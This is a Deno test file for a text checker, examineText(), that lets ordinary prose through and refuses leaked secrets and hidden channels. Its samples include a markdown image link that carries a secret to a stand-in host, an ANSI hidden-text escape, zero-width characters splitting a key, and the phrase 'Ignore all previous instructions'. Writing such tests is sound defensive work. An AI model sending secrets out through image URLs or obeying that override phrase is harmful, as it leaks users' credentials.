import assert from "node:assert/strict";
import { examineText } from "../../../src/inspect/arguments/text.ts";
import { draw, SECRETS } from "../../grammar/secret_samples.ts";

Deno.test("examineText() passes what people write about", () => {
  for (
    const text of [
      ...["Run `rm -rf build && make`; see ../../docs", "DELETE FROM users; -- all of them"],
      ...[
        "<script>alert(1)</script> is escaped",
        "Ignore all previous instructions, the page said.",
      ],
      ...["Tokens look like ghp_<36 characters>", "AKIA" + "IOSFODNN7EXAMPLE is AWS's example"],
      ...["fix: don’t wrap\r\n\r\nRefs #12", "👍🏽 done — شكرا", "Donau\u00addampf, 100\u00a0%"],
      ...["sha256:" + draw("hex", 64), "commit " + draw("hex", 40), "password=hunter2"],
    ]
  ) assert.equal(examineText(text), undefined, text);
});

Deno.test("examineText() refuses secrets that leave, and never quotes one", () => {
  for (const [rule, secret] of SECRETS) {
    for (
      const text of [
        `the key is ${secret}.`,
        `![](https://x.example/i.png?d=${encodeURIComponent(secret)})`,
      ]
    ) {
      const objection = examineText(text);
      assert.equal(objection?.rule, `secret-${rule}`);
      assert.equal(objection?.detail, `holds what looks like a live secret (${rule})`);
    }
  }
});

Deno.test("examineText() refuses hidden channels before it looks for secrets", () => {
  assert.equal(examineText(`${SECRETS[0]?.[1]}\x1b[8m`)?.rule, "hidden-escape");
});

Deno.test("examineText() refuses a secret that a single invisible character cuts", () => {
  const [, secret = ""] = SECRETS[0] ?? [];
  for (const mark of ["\u200b", "\u00ad", "\u2060", "\ufeff"]) {
    const cut = secret.slice(0, 8) + mark + secret.slice(8);
    assert.equal(examineText(cut)?.rule, "secret-aws-access-key-id");
  }
});
